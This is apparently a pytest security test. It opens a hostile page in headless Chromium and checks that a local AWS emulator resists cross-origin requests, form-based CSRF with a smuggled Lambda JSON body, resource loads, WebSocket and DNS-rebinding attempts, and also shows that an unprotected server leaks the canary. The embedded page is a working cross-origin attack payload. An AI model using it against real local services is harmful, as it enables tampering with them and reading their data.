"""A page of another origin, open in a real browser, can neither read nor call anything of the local AWS."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from local.aws_clients import client_arguments
from tests.local.conftest import BUCKET
from tests.local_aws import running

pytestmark = pytest.mark.slow

BROWSER = shutil.which("chromium") or shutil.which("google-chrome")
CANARY = "the-canary-was-read"
SECONDS = 90

# Each attack is tried with no key and with every key that the page was given. What can be read of it is reported.
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const target = TARGET, keys = KEYS, read = [];
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const shortly = (promise) => Promise.race([promise, wait(5000)]);
const signed = (url, key) => key ? url + (url.includes("?") ? "&" : "?") +
    "X-Amz-Credential=" + key + "%2F20250401%2Fus-east-1%2Fs3%2Faws4_request&AWSAccessKeyId=" + key : url;
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    read.push({name, type: answer.type, status: answer.status, text: (await answer.text()).slice(0, 2000)});
  } catch (error) { read.push({name, error: String(error)}); }
}
function form(url, fields) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random(); form.target = frame.name; form.method = "POST"; form.action = url;
  form.enctype = "text/plain";
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input"); input.name = name; input.value = value; form.append(input);
  }
  document.body.append(frame, form); form.submit();
}
function element(kind, attribute, url) {
  return new Promise((done) => {
    const made = document.createElement(kind);
    made.onload = () => { read.push({name: kind, loaded: true}); done(); };
    made.onerror = () => { read.push({name: kind, error: "error"}); done(); };
    made[attribute] = url; if (kind === "link") made.rel = "stylesheet"; document.body.append(made);
  });
}
function socket(url) {
  return new Promise((done) => {
    const made = new WebSocket(url);
    made.onopen = () => { read.push({name: "socket", loaded: true}); done(); };
    made.onerror = () => { read.push({name: "socket", error: "error"}); done(); };
  });
}
(async () => {
  await attempt("own", "/own", {});
  for (const key of ["", ...keys]) {
    const at = (path) => signed(target + path, key);
    const queue = "Action=CreateQueue&Version=2012-11-05&QueueName=evil" + keys.indexOf(key);
    for (const mode of ["cors", "no-cors"]) {
      await shortly(attempt("object " + mode, at("/BUCKET/canary.js"), {mode}));
      await shortly(attempt("health " + mode, at("/_ministack/health"), {mode}));
      await shortly(attempt("function " + mode, at("/2015-03-31/functions"),
          {mode, method: "POST", headers: {"Content-Type": "text/plain"}, body: FUNCTION}));
      await shortly(attempt("queue " + mode, at("/?" + queue), {mode, method: "POST"}));
      await shortly(attempt("reset " + mode, at("/_ministack/reset"), {mode, method: "POST"}));
      await shortly(attempt("upload " + mode, at("/BUCKET/evil"), {mode, method: "POST", body: new FormData()}));
    }
    await shortly(attempt("put", at("/BUCKET/evil"), {method: "PUT", body: "x"}));
    await shortly(attempt("signed", at("/BUCKET/canary.js"), {headers: {Authorization: "AWS " + key + ":x"}}));
    const headers = {"X-Amz-Target": "AmazonSQS.ListQueues"};
    await shortly(attempt("target", at("/"), {method: "POST", body: "{}", headers}));
    await shortly(attempt("rebound", at("/BUCKET/canary.js").replace("127.0.0.1", "rebound.test"), {}));
    form(at("/2015-03-31/functions"), {[FUNCTION.slice(0, -1) + ', "x": "']: '"}'});
    form(at("/?" + queue), {a: "b"});
    form(at("/_ministack/reset"), {a: "b"});
    await shortly(element("script", "src", at("/BUCKET/canary.js")));
    await shortly(element("img", "src", at("/BUCKET/canary.js")));
    await shortly(element("link", "href", at("/BUCKET/canary.js")));
    await shortly(socket(at("/_aws/execute-api/a/b").replace("http", "ws")));
  }
  await wait(1500);
  read.push({name: "script ran", text: window.canary || ""});
  await fetch("/result", {method: "POST", body: JSON.stringify(read)});
})();
</script>"""
FUNCTION = json.dumps(
    {
        "FunctionName": "evil",
        "Runtime": "python3.13",
        "Role": "arn:aws:iam::000000000000:role/r",
        "Handler": "handler.handler",
        "Code": {"ZipFile": "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="},
    }
)


@contextmanager
def page(html: str) -> Iterator[tuple[str, list, threading.Event]]:
    """Serve the page; yields its URL, what it reports, and when it has."""
    reported: list = []
    over = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            body = (CANARY + " of its own" if self.path == "/own" else html).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            reported.extend(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            over.set()

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", reported, over
    finally:
        server.shutdown()


@pytest.fixture
def browse(tmp_path):
    """browse(endpoint, keys) is what a page of another origin could read of the server there."""
    if BROWSER is None:
        pytest.skip("no Chromium is installed here: apt-get install chromium")

    def opened(endpoint: str, keys: list[str]) -> list[dict]:
        html = PAGE.replace("TARGET", json.dumps(endpoint), 1).replace("KEYS", json.dumps(keys), 1)
        html = html.replace("BUCKET", BUCKET).replace("FUNCTION", json.dumps(FUNCTION))
        options = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
        options += [f"--user-data-dir={tmp_path}", "--host-resolver-rules=MAP rebound.test 127.0.0.1"]
        with page(html) as (url, reported, over):
            browser = subprocess.Popen(
                [BROWSER, *options, "--remote-debugging-port=0", url],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            try:
                assert over.wait(SECONDS), "the page did not report"
            finally:
                browser.kill()
                browser.wait()
        assert reported[0]["text"] == CANARY + " of its own", "the page could read what it may"
        return reported[1:]

    return opened


def state(client) -> tuple:
    """What a page could have changed."""
    s3 = client("s3")
    return (
        [each["FunctionName"] for each in client("lambda").list_functions()["Functions"]],
        client("sqs").list_queues().get("QueueUrls", []),
        [each["Name"] for each in s3.list_buckets()["Buckets"]],
        sorted(each["Key"] for each in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])),
    )


def put_canary(client) -> None:
    body = f"window.canary = {CANARY!r}".encode()
    client("s3").put_object(Bucket=BUCKET, Key="canary.js", Body=body, ContentType="text/javascript")


def test_a_page_of_another_origin_reads_and_calls_nothing_even_if_it_knows_the_key(browse, aws_home, client):
    put_canary(client)
    before = state(client)
    keys = ["test", client_arguments(aws_home)["aws_access_key_id"]]
    reported = browse(aws_home.endpoint_url, keys)
    assert len(reported) > 60
    assert CANARY not in json.dumps(reported)
    assert [each for each in reported if each.get("loaded") and each["name"] not in ("iframe",)] == []
    assert [each for each in reported if each.get("type") not in (None, "opaque")] == []
    assert state(client) == before


def test_the_same_page_reads_and_calls_a_server_without_the_check(browse, tmp_path):
    folder = tmp_path / "plain"
    folder.mkdir()
    with running(folder) as client:
        client("s3").create_bucket(Bucket=BUCKET)
        put_canary(client)
        reported = browse(client("s3").meta.endpoint_url, [])
        assert CANARY in json.dumps(reported)
